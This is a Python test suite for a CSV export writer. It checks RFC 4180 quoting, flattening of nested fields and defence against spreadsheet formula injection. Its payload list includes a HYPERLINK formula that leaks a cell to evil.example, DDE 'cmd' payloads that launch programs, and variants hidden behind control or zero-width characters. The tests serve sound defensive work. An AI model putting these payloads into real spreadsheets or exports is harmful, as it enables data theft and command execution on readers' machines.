"""CSV writer: RFC 4180 round trips, flattening, header union and formula neutralisation."""

from __future__ import annotations

import csv
import io
import json
import math
import re
from datetime import date, datetime, timezone
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tui_analytics.export.csvfmt import (
    BOM,
    CsvStreamWriter,
    ExportDataError,
    cell_text,
    flatten,
    neutralise,
    rows_to_csv,
)

TRIGGERS = "=+-@\t\r"
# What comes before a trigger and is skipped by a spreadsheet: control characters (but tab and
# CR, which are triggers themselves), spaces, zero-width and bidi formatting characters.
LEAD = re.compile("^[\x00-\x08\x0a-\x0c\x0e-\x20\x7f-\x9f\u00a0\u1680\u2000-\u200f\u2028-\u202f\u205f-\u206f\u3000\ufeff]+")
# The documented "plain number" that stays unprefixed (README, csvfmt docstring).
NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# -- the documented cell rules, written out independently of the implementation --


def spec_text(value: str) -> str:
    shown = LEAD.sub("", value, count=1)
    if shown and shown[0] in TRIGGERS and not NUMBER.fullmatch(shown):
        return "'" + value
    return value


def spec_cell(value) -> str:
    if value is None:
        return ""
    if value is True or value is False:
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, list):
        return spec_text(json.dumps(value, ensure_ascii=False, separators=(", ", ": ")))
    if isinstance(value, dict):
        assert value == {}
        return "{}"
    return spec_text(value)


def spec_flatten(row: dict, prefix: str = "") -> dict:
    out = {}
    for key, value in row.items():
        if isinstance(value, dict) and value:
            out.update(spec_flatten(value, f"{prefix}{key}."))
        else:
            out[f"{prefix}{key}"] = value
    return out


keys = st.text(alphabet=st.characters(exclude_characters=".", exclude_categories=["Cs"]), min_size=1, max_size=8)
scalars = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=20)
    | st.sampled_from(["=1+1", "-5", "-2+3", "+7", "@x", "\tx", "\rx", 'a,"b"\r\nc', "1e-3", "-"])
)
json_values = st.recursive(
    scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(keys, inner, max_size=3), max_leaves=6
)
cell_values = st.recursive(
    scalars | st.lists(json_values, max_size=3),
    lambda inner: st.dictionaries(keys, inner, max_size=3),
    max_leaves=10,
)
rows_strategy = st.lists(st.dictionaries(keys, cell_values, max_size=5), max_size=6)


@pytest.mark.slow  # 300 generated tables
@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(rows_strategy)
def test_round_trip_through_csv_reader(rows):
    text, count = rows_to_csv(rows)
    assert count == len(rows)
    flat = [spec_flatten(r) for r in rows]
    header: list[str] = []
    for r in flat:
        header.extend(k for k in r if k not in header)
    # the streaming writer, given the same header, writes the same bytes
    stream = io.StringIO(newline="")
    writer = CsvStreamWriter(stream, header or None)
    writer.write_all(rows)
    writer.finish()
    assert stream.getvalue() == text
    parsed = read(text)
    if not header:
        assert text == ""
        return
    assert parsed[0] == [spec_text(k) for k in header]
    assert parsed[1:] == [[spec_cell(r.get(k)) for k in header] for r in flat]
    assert text.endswith("\r\n")


@settings(max_examples=300)
@given(st.lists(st.text(), min_size=1, max_size=5))
def test_no_cell_reads_back_as_a_formula_and_text_is_recoverable(values):
    text, _ = rows_to_csv([{f"c{i}": v for i, v in enumerate(values)}])
    cells = read(text)[1]
    for original, cell in zip(values, cells):
        # safe: a spreadsheet never sees a cell starting with a trigger (after the control characters
        # and spaces it skips) unless it is a plain number
        shown = LEAD.sub("", cell, count=1)
        assert not shown or shown[0] not in TRIGGERS or NUMBER.fullmatch(shown)
        # lossless: dropping the added quote gives the original text back
        assert cell == original or (cell == "'" + original and LEAD.sub("", original, count=1)[0] in TRIGGERS)


FORMULA_PAYLOADS = [
    ("=1+1", "'=1+1"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+cmd|' /C notepad'!'A1'", "'+cmd|' /C notepad'!'A1'"),
    ("-", "'-"),
    ("=", "'="),
    ("- 5", "'- 5"),
    ("-5-", "'-5-"),
    ("-0x1F", "'-0x1F"),
    ("-inf", "'-inf"),
    ("@", "'@"),
    # plain numbers stay numbers
    ("-5", "-5"),
    ("+5", "+5"),
    ("-1.5e3", "-1.5e3"),
    ("-.5", "-.5"),
    ("1e-3", "1e-3"),
    # not at the start: harmless
    ("a=1+1", "a=1+1"),
    ("'=already quoted", "'=already quoted"),
    ("", ""),
    # after what a spreadsheet skips: NUL, control characters, spaces (LibreOffice runs "\x00=1+1")
    ("\x00=1+1", "'\x00=1+1"),
    ('\x00=HYPERLINK("http://evil.example/?"&A1,"click")', '\'\x00=HYPERLINK("http://evil.example/?"&A1,"click")'),
    (" =1+1", "' =1+1"),
    ("\x00\x01\x1f @SUM(A1)", "'\x00\x01\x1f @SUM(A1)"),
    ("\x7f\x85+A1", "'\x7f\x85+A1"),
    ("\u00a0\u200b\ufeff=1", "'\u00a0\u200b\ufeff=1"),
    ("\x00-5", "\x00-5"),
    ("\x00", "\x00"),
    ("  text", "  text"),
]


@pytest.mark.parametrize(("payload", "expected"), FORMULA_PAYLOADS)
def test_formula_payloads_are_neutralised(payload, expected):
    assert neutralise(payload) == expected
    text, _ = rows_to_csv([{"value": payload}])
    assert read(text) == [["value"], [expected]]
    # the streaming writer's fast paths (whole columns, single rows) too
    stream = io.StringIO(newline="")
    writer = CsvStreamWriter(stream)
    writer.write_columns(["value", "n"], [["plain", payload], [1, 2]])
    writer.write({"value": payload, "n": 3})
    assert [row[0] for row in read(stream.getvalue())[1:]] == ["plain", expected, expected]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-5, "-5"),
        (-2.5, "-2.5"),
        (0, "0"),
        (True, "true"),
        (None, ""),
        (Decimal("-12.50"), "-12.50"),
        (float("-inf"), "'-inf"),
        (float("nan"), "nan"),
        (datetime(2026, 1, 15, 12, 0), "2026-01-15T12:00:00+00:00"),
        (datetime(2026, 1, 15, 12, 0, tzinfo=timezone.utc), "2026-01-15T12:00:00+00:00"),
        (date(2026, 1, 15), "2026-01-15"),
        (["=1+1", 2], '["=1+1", 2]'),
        ({}, "{}"),
    ],
)
def test_cell_text_of_typed_values(value, expected):
    assert cell_text(value) == expected


def test_flatten_nested_objects_to_dot_notation():
    row = {"section": "summary", "summary": {"totalUsers": 3, "actions": {"view": 2}}, "tags": ["a", {"b": 1}]}
    assert flatten(row) == {
        "section": "summary",
        "summary.totalUsers": 3,
        "summary.actions.view": 2,
        "tags": ["a", {"b": 1}],
    }


def test_header_is_union_of_keys_in_first_seen_order():
    rows: list[dict[str, object]] = [{"b": 1, "a": 2}, {"c": 3, "a": 4}, {"d": {"e": 5}}]
    text, _ = rows_to_csv(rows)
    assert read(text) == [["b", "a", "c", "d.e"], ["1", "2", "", ""], ["", "4", "3", ""], ["", "", "", "5"]]


def test_rfc4180_quoting_and_crlf():
    text, _ = rows_to_csv([{"name": 'He said "hi", twice\nthen left', "n": 1}])
    assert text == 'name,n\r\n"He said ""hi"", twice\nthen left",1\r\n'


def test_empty_rows_use_the_given_header():
    assert rows_to_csv([], columns=("month", "newUsers")) == ("month,newUsers\r\n", 0)
    assert rows_to_csv([]) == ("", 0)


def test_excel_bom_is_only_a_prefix():
    text, _ = rows_to_csv([{"name": "Zoë"}], bom=True)
    assert text.startswith(BOM)
    assert read(text.removeprefix(BOM)) == [["name"], ["Zoë"]]
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")


def test_stream_writer_matches_in_memory_output():
    rows = [{"a": 1, "b": {"c": "=x"}}, {"a": 2, "b": {"c": None}}]
    buffer = io.StringIO(newline="")
    writer = CsvStreamWriter(buffer)
    assert writer.write_all(rows) == 2
    writer.finish()
    assert buffer.getvalue() == rows_to_csv(rows)[0]


def test_stream_writer_rejects_columns_missing_from_the_header():
    writer = CsvStreamWriter(io.StringIO(newline=""))
    writer.write({"a": 1})
    with pytest.raises(ExportDataError, match="row 2 has column.*: b"):
        writer.write({"a": 2, "b": 3})


def test_stream_writer_without_rows_writes_the_fallback_header():
    buffer = io.StringIO(newline="")
    writer = CsvStreamWriter(buffer, empty_columns=("timestamp", "userId"))
    assert writer.finish() == 0
    assert buffer.getvalue() == "timestamp,userId\r\n"


def test_nonfinite_float_cells_are_text():
    assert math.isinf(float(cell_text(float("inf"))))
